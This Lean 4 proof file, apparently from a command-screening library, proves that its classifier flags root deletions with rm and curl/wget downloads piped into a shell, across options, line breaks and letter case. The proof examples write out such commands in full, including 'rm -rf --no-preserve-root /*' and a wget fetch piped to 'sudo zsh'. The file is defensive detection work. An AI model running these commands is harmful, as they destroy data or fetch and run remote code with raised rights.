import ScreenedSuite.Proofs.Catalog.Spellings
import ScreenedSuite.Proofs.Catalog.Surroundings
import ScreenedSuite.Proofs.Pattern.Assembly

/-! # Catastrophic commands in all their spellings

A deletion of the root of the file system is flagged whatever its options and gaps
(`ScreenedSuite.DeletesRoot`), and so is a download that is piped to a shell whatever stands between
the two (`ScreenedSuite.PipesDownload`), at every level and in any letter case
(`ScreenedSuite.Catalog.builtin_classify_catastrophes`).
-/

namespace ScreenedSuite

/-- An option: a hyphen and then ASCII letters and hyphens. -/
def IsOption (text : List Char) : Prop :=
  ∃ name, text = '-' :: name ∧ ∀ c ∈ name, c.isAlpha = true ∨ c = '-'

/-- Whether a text begins with no word. -/
def BeginsOutsideWords (text : List Char) : Prop :=
  ∀ c, text.head? = some c → Unicode.isWord c = false

/-- A text that begins with no word still does before a character outside words. -/
theorem BeginsOutsideWords.append {text : List Char} (outside : BeginsOutsideWords text) {c : Char}
    (other : Unicode.isWord c = false) (rest : List Char) :
    BeginsOutsideWords (text ++ c :: rest) := by
  cases text with
  | nil =>
      intro d first
      cases first
      exact other
  | cons first text => exact outside

/-- A command that deletes the root of the file system, among other words: `rm` with options, each
with a gap behind it, and then the root or everything in it. -/
inductive DeletesRoot : List Char → Prop
  | mk {lead gap target tail : List Char} {options : List (List Char × List Char)}
      (outside : Pattern.EndsOutsideWords lead) (blank : IsGap gap)
      (each : ∀ option ∈ options, IsOption option.1 ∧ IsGap option.2)
      (root : target = ['/'] ∨ target = ['/', '*'])
      (ends : ∀ c, tail.head? = some c → Unicode.isBlank c = true ∨ c ∈ [';', '&', '|']) :
      DeletesRoot (lead ++ ['r', 'm'] ++ gap ++
        options.flatMap (fun option => option.1 ++ option.2) ++ target ++ tail)

/-- A command that pipes a download to a shell, among other words: a tool for downloads, anything
that is no part of its name, and behind a bar a shell, perhaps with more rights. -/
inductive PipesDownload : List Char → Prop
  | mk {lead arguments blank raised tail : List Char} {tool shell : String}
      (outside : Pattern.EndsOutsideWords lead) (downloads : tool ∈ ["curl", "wget"])
      (apart : BeginsOutsideWords arguments) (blanks : ∀ c ∈ blank, Unicode.isBlank c = true)
      (rights : raised = [] ∨ ∃ gap, IsGap gap ∧ raised = "sudo".toList ++ gap)
      (runs : shell ∈ ["sh", "bash", "zsh", "ksh", "dash"]) (ends : BeginsOutsideWords tail) :
      PipesDownload (lead ++ tool.toList ++ arguments ++ ['|'] ++ blank ++ raised ++ shell.toList ++
        tail)

namespace Rule

/-- An ASCII letter in either case. -/
def letter (c : Char) : Pattern :=
  .char (.anyCase (.single c))

/-- A word in either case. -/
def word (text : String) : Pattern :=
  .sequence (text.toList.map letter)

/-- A character as it is. -/
def exactly (c : Char) : Pattern :=
  .char (.single c)

/-- The edge of a word. -/
def edge : Pattern :=
  .look (.boundary .word)

/-- The characters of the name of an option. -/
def optionLetters : CharClass :=
  .anyCase (.either (.range 'a' 'z') (.single '-'))

/-- An option and the gap behind it. -/
def option : Pattern :=
  .sequence [.rep (exactly '-') 1 (some 1), .rep (.char optionLetters) 0 none, .gap]

/-- The pattern for a deletion of the root. -/
def deletion : Pattern :=
  .sequence [edge, letter 'r', letter 'm', .gap, .rep option 0 none, exactly '/',
    .rep (exactly '*') 0 (some 1), .choice [.char .space, .look .textEnd, .char .separators]]

/-- The name of a shell up to the last two letters. -/
def shellKind : Pattern :=
  .choice [word "ba", word "z", word "k", word "da"]

/-- The pattern for a download that is piped to a shell. -/
def download : Pattern :=
  .sequence [edge, .choice [word "curl", word "wget"], edge, .rep (.char .any) 0 none, exactly '|',
    .rep (.char .space) 0 none,
    .rep (.sequence [letter 's', letter 'u', letter 'd', letter 'o', .gap]) 0 (some 1),
    .rep shellKind 0 (some 1), letter 's', letter 'h', edge]

theorem deletion_compiled : catastrophicCommands[0].compiled = deletion := by
  decide +kernel

theorem download_compiled : catastrophicCommands[7].compiled = download := by
  decide +kernel

/-- A word starts where the text before ends in none. -/
theorem edge_holds_before {before : List Char} (outside : Pattern.EndsOutsideWords before)
    {c : Char} (inside : Unicode.isWord c = true) (rest : List Char) :
    (Look.boundary .word).holds before.getLast? (c :: rest).head? = true := by
  have last : Look.isIn .word before.getLast? = false := by
    cases known : before.getLast? with
    | none => rfl
    | some d => exact outside d known
  have next : Look.isIn .word (c :: rest).head? = true := inside
  rw [Look.holds, last, next]
  rfl

/-- A word ends where the text behind begins with none. -/
theorem edge_holds_behind {c : Char} (inside : Unicode.isWord c = true) {after : List Char}
    (outside : BeginsOutsideWords after) (before : List Char) :
    (Look.boundary .word).holds (before ++ [c]).getLast? after.head? = true := by
  have last : Look.isIn .word (before ++ [c]).getLast? = true := by
    rw [List.getLast?_concat]
    exact inside
  have next : Look.isIn .word after.head? = false := by
    cases known : after.head? with
    | none => rfl
    | some d => exact outside d known
  rw [Look.holds, last, next]
  rfl

theorem optionLetters_contains {c : Char} (member : c.isAlpha = true ∨ c = '-') :
    optionLetters.contains c = true := by
  rcases member with letter | rfl
  · have ascii : ∀ code < 128, (Char.ofNat code).isAlpha = true →
        optionLetters.contains (Char.ofNat code) = true := by
      decide +kernel
    have small : c.toNat < 128 := by
      rcases Bool.or_eq_true_iff.mp letter with upper | lower
      · have below := (of_decide_eq_true upper).2
        exact Nat.lt_of_le_of_lt (UInt32.le_iff_toNat_le.mp below) (by decide)
      · have below := of_decide_eq_true (Bool.and_eq_true_iff.mp lower).2
        exact Nat.lt_of_le_of_lt (UInt32.le_iff_toNat_le.mp below) (by decide)
    have held := ascii c.toNat small
    rw [Char.ofNat_toNat] at held
    exact held letter
  · decide

theorem matches_option {text blank : List Char} (isOption : IsOption text) (isGap : IsGap blank)
    (before after : List Char) : Pattern.Matches option before (text ++ blank) after := by
  obtain ⟨name, rfl, letters⟩ := isOption
  have hyphen : Pattern.Matches (.rep (exactly '-') 1 (some 1)) before (['-'] ++ [])
      (name ++ blank ++ after) := by
    apply Pattern.Matches.rep_required
    · exact .char rfl
    · exact .rep_stop
  have letters_match : Pattern.Matches (.rep (.char optionLetters) 0 none) (before ++ ['-']) name
      (blank ++ after) := by
    apply Pattern.matches_rep_char
    · exact fun c member => optionLetters_contains (letters c member)
    · exact Nat.zero_le _
  have whole : Pattern.Matches option before (['-'] ++ (name ++ blank)) after :=
    .seq hyphen (.seq letters_match (Pattern.matches_gap_iff.mpr isGap))
  exact whole

/-- What may stand behind the root closes the pattern for a deletion. -/
theorem closing_begins {tail : List Char}
    (ends : ∀ c, tail.head? = some c → Unicode.isBlank c = true ∨ c ∈ [';', '&', '|'])
    (before : List Char) :
    (Pattern.choice [.char .space, .look .textEnd, .char .separators]).Begins before tail := by
  cases tail with
  | nil => exact ⟨[], [], rfl, .alt_right (.alt_left (.look rfl))⟩
  | cons c rest =>
      refine ⟨[c], rest, rfl, ?_⟩
      rcases ends c rfl with blank | separator
      · exact .alt_left (.char blank)
      · exact .alt_right (.alt_right (.char (Catalog.separators_contains separator).1))

/-- The pattern for a deletion occurs in every spelling in small letters. -/
theorem deletion_occurs {text : List Char} (deletes : DeletesRoot text) :
    deletion.Occurs text := by
  obtain @⟨lead, gap, target, tail, options, outside, blank, each, root, ends⟩ := deletes
  have rooted (before : List Char) :
      (Pattern.sequence [exactly '/', .rep (exactly '*') 0 (some 1),
        .choice [.char .space, .look .textEnd, .char .separators]]).Begins before
          (target ++ tail) := by
    rcases root with rfl | rfl
    · apply Pattern.Begins.cons
      · rfl
      · exact .seq (Pattern.matches_optional_iff.mpr (.inl rfl)) (closing_begins ends _)
    · apply Pattern.Begins.cons
      · rfl
      · have star : (exactly '*').Matches (before ++ ['/']) ['*'] tail := .char rfl
        exact .seq (Pattern.matches_optional_iff.mpr (.inr star)) (closing_begins ends _)
  have optional (before after : List Char) : Pattern.Matches (.rep option 0 none) before
      (options.flatMap fun option => option.1 ++ option.2) after := by
    rw [List.flatMap_def]
    apply Pattern.matches_rep_flatten
    intro piece member
    obtain ⟨part, listed, rfl⟩ := List.mem_map.mp member
    exact matches_option (each part listed).1 (each part listed).2
  have begins : deletion.Begins lead ('r' :: 'm' ::
      (gap ++ (options.flatMap (fun option => option.1 ++ option.2) ++ (target ++ tail)))) := by
    apply Pattern.Begins.look
    · exact edge_holds_before outside rfl _
    · apply Pattern.Begins.cons
      · rfl
      · apply Pattern.Begins.cons
        · rfl
        · exact .seq (Pattern.matches_gap_iff.mpr blank) (.seq (optional _ _) (rooted _))
  simpa only [List.append_assoc, List.cons_append, List.nil_append] using begins.occurs

/-- The name of a tool for downloads begins and ends in a word. -/
theorem tool_spelled {tool : String} (member : tool ∈ ["curl", "wget"]) :
    (Pattern.choice [word "curl", word "wget"]).spells tool.toList = true ∧
      (∃ first rest, tool.toList = first :: rest ∧ Unicode.isWord first = true) ∧
        ∃ front last, tool.toList = front ++ [last] ∧ Unicode.isWord last = true := by
  simp only [List.mem_cons, List.not_mem_nil, or_false] at member
  rcases member with rfl | rfl
  · exact ⟨rfl, ⟨'c', "url".toList, rfl, rfl⟩,
      "cur".toList, 'l', rfl, rfl⟩
  · exact ⟨rfl, ⟨'w', "get".toList, rfl, rfl⟩,
      "wge".toList, 't', rfl, rfl⟩

/-- The name of a shell is a kind of shell, perhaps left out, and `sh`. -/
theorem shell_spelled : ∀ shell ∈ ["sh", "bash", "zsh", "ksh", "dash"],
    ∃ kind ∈ ["", "ba", "z", "k", "da"], shell.toList = kind.toList ++ ['s', 'h'] ∧
      (kind.toList = [] ∨ shellKind.spells kind.toList = true) := by
  decide +kernel

/-- The pattern for a download occurs in every spelling in small letters. -/
theorem download_occurs {text : List Char} (pipes : PipesDownload text) :
    download.Occurs text := by
  obtain @⟨lead, arguments, blank, raised, tail, tool, shell, outside, downloads, apart, blanks,
    rights, runs, ends⟩ := pipes
  obtain ⟨spelled, ⟨first, rest, begun, firstWord⟩, front, last, ended, lastWord⟩ :=
    tool_spelled downloads
  obtain ⟨kind, _, named, spelledKind⟩ := shell_spelled shell runs
  have called (before : List Char) :
      (Pattern.sequence [.rep shellKind 0 (some 1), letter 's', letter 'h', edge]).Begins before
        (kind.toList ++ 's' :: 'h' :: tail) := by
    refine .seq (Pattern.matches_optional_iff.mpr ?_) ?_
    · exact spelledKind.imp_right fun spelled => Pattern.matches_of_spells spelled _ _
    · apply Pattern.Begins.cons
      · rfl
      · apply Pattern.Begins.cons
        · rfl
        · exact ⟨[], tail, rfl, .look (edge_holds_behind rfl ends _)⟩
  have allowed (before after : List Char) : Pattern.Matches
      (.rep (.sequence [letter 's', letter 'u', letter 'd', letter 'o', .gap]) 0 (some 1))
      before raised after := by
    apply Pattern.matches_optional_iff.mpr
    refine rights.imp_right ?_
    intro ⟨space, isGap, same⟩
    have parts : Pattern.Matches (.sequence [letter 's', letter 'u', letter 'd', letter 'o', .gap])
        before (['s'] ++ (['u'] ++ (['d'] ++ (['o'] ++ space)))) after :=
      .seq (.char rfl) (.seq (.char rfl)
        (.seq (.char rfl) (.seq (.char rfl)
          (Pattern.matches_gap_iff.mpr isGap))))
    rw [same]
    exact parts
  have piped (before : List Char) : (Pattern.sequence [.rep (.char .any) 0 none, exactly '|',
      .rep (.char .space) 0 none,
      .rep (.sequence [letter 's', letter 'u', letter 'd', letter 'o', .gap]) 0 (some 1),
      .rep shellKind 0 (some 1), letter 's', letter 'h', edge]).Begins before
        (arguments ++ '|' :: (blank ++ (raised ++ (kind.toList ++ 's' :: 'h' :: tail)))) := by
    refine .seq (Pattern.matches_rep_char (fun _ _ => rfl) (Nat.zero_le _) _ _) ?_
    apply Pattern.Begins.cons
    · decide
    · refine .seq (Pattern.matches_rep_char blanks (Nat.zero_le _) _ _) ?_
      exact .seq (allowed _ _) (called _)
  have begins : download.Begins lead (tool.toList ++
      (arguments ++ '|' :: (blank ++ (raised ++ (kind.toList ++ 's' :: 'h' :: tail))))) := by
    apply Pattern.Begins.look
    · rw [begun]
      exact edge_holds_before outside firstWord _
    · refine .seq (Pattern.matches_of_spells spelled _ _) ?_
      apply Pattern.Begins.look
      · rw [ended, ← List.append_assoc]
        apply edge_holds_behind lastWord
        exact apart.append rfl _
      · exact piped _
  simpa only [named, List.append_assoc, List.cons_append, List.nil_append] using begins.occurs

end Rule

namespace Catalog

/-- **Catastrophic commands are caught in all their spellings**, at every level and in any letter
case: a deletion of the root by its own rule, and a download that is piped to a shell. -/
theorem builtin_classify_catastrophes (level : Level) :
    (∀ (text : List Char) (command : String),
      DeletesRoot text → SameButCase text command.toList →
        ∃ entry, builtin.classify level .command command = .dangerous entry ∧
          entry.id = "rm-root") ∧
    ∀ (text : List Char) (command : String),
      PipesDownload text → SameButCase text command.toList →
        ∃ entry, builtin.classify level .command command = .dangerous entry := by
  constructor
  · intro text command deletes same
    have listed : (PatternList.builtin .command level).items[0]? =
        some Rule.catastrophicCommands[0].listed := by
      cases level <;> rfl
    have member : Rule.catastrophicCommands[0] ∈ Rule.all .command := List.mem_cons_self
    have occurs : Rule.catastrophicCommands[0].compiled.Occurs text := by
      rw [Rule.deletion_compiled]
      exact Rule.deletion_occurs deletes
    obtain ⟨first, least, entry, at_first, dangerous⟩ :=
      exists_flagged_of_occurs listed (Rule.occurs_of_sameButCase member same occurs)
    -- No entry stands before the first one.
    obtain rfl := Nat.le_zero.mp least
    rw [PatternList.entries, List.getElem?_map, listed] at at_first
    cases at_first
    exact ⟨_, dangerous, rfl⟩
  · intro text command pipes same
    have listed : (PatternList.builtin .command level).items[7]? =
        some Rule.catastrophicCommands[7].listed := by
      cases level <;> rfl
    have member : Rule.catastrophicCommands[7] ∈ Rule.all .command := by
      simp [Rule.all, Rule.dangerousCommands]
    have occurs : Rule.catastrophicCommands[7].compiled.Occurs text := by
      rw [Rule.download_compiled]
      exact Rule.download_occurs pipes
    obtain ⟨_, _, entry, _, dangerous⟩ :=
      exists_flagged_of_occurs listed (Rule.occurs_of_sameButCase member same occurs)
    exact ⟨entry, dangerous⟩

/-- A deletion of everything behind another command, on two lines. -/
theorem deletesRoot_everything : DeletesRoot "true;rm\n-rf\t--no-preserve-root /*;ls".toList := by
  have parts := @DeletesRoot.mk "true;".toList ['\n'] ['/', '*'] ";ls".toList
    [("-rf".toList, ['\t']), ("--no-preserve-root".toList, [' '])]
  apply parts
  · intro c last
    obtain rfl : c = ';' := by simpa using last.symm
    rfl
  · exact isGap_singleton rfl
  · have short : IsOption "-rf".toList := ⟨"rf".toList, rfl, by simp⟩
    have long : IsOption "--no-preserve-root".toList := ⟨"-no-preserve-root".toList, rfl, by simp⟩
    simp only [List.forall_mem_cons]
    exact ⟨⟨short, isGap_singleton rfl⟩, ⟨long, isGap_singleton rfl⟩, List.forall_mem_nil _⟩
  · exact .inr rfl
  · intro c first
    obtain rfl : c = ';' := by simpa using first.symm
    decide

/-- A download for a shell with more rights, the line broken before the bar and behind it. -/
theorem pipesDownload_raised :
    PipesDownload "cd /tmp&&wget\n-qO- http://x\\\n|\nsudo\tzsh -s".toList := by
  have parts := @PipesDownload.mk "cd /tmp&&".toList "\n-qO- http://x\\\n".toList ['\n']
    "sudo\t".toList " -s".toList "wget" "zsh"
  apply parts
  · intro c last
    obtain rfl : c = '&' := by simpa using last.symm
    rfl
  · decide
  · intro c first
    obtain rfl : c = '\n' := by simpa using first.symm
    rfl
  · exact List.forall_mem_singleton.mpr rfl
  · exact .inr ⟨['\t'], isGap_singleton rfl, rfl⟩
  · decide
  · intro c first
    obtain rfl : c = ' ' := by simpa using first.symm
    rfl

/-- Both are flagged when they are shouted. -/
theorem builtin_classify_catastrophes_shouted :
    (∃ entry, builtin.classify .permissive .command
        "TRUE;RM\n-RF\t--NO-PRESERVE-ROOT /*;LS" = .dangerous entry ∧ entry.id = "rm-root") ∧
      ∃ entry, builtin.classify .strict .command
        "CD /TMP&&WGET\n-QO- HTTP://X\\\n|\nSUDO\tZSH -S" = .dangerous entry := by
  constructor
  · apply (builtin_classify_catastrophes .permissive).1 _ _ deletesRoot_everything
    simp [SameButCase]
  · apply (builtin_classify_catastrophes .strict).2 _ _ pipesDownload_raised
    simp [SameButCase]

end Catalog

end ScreenedSuite
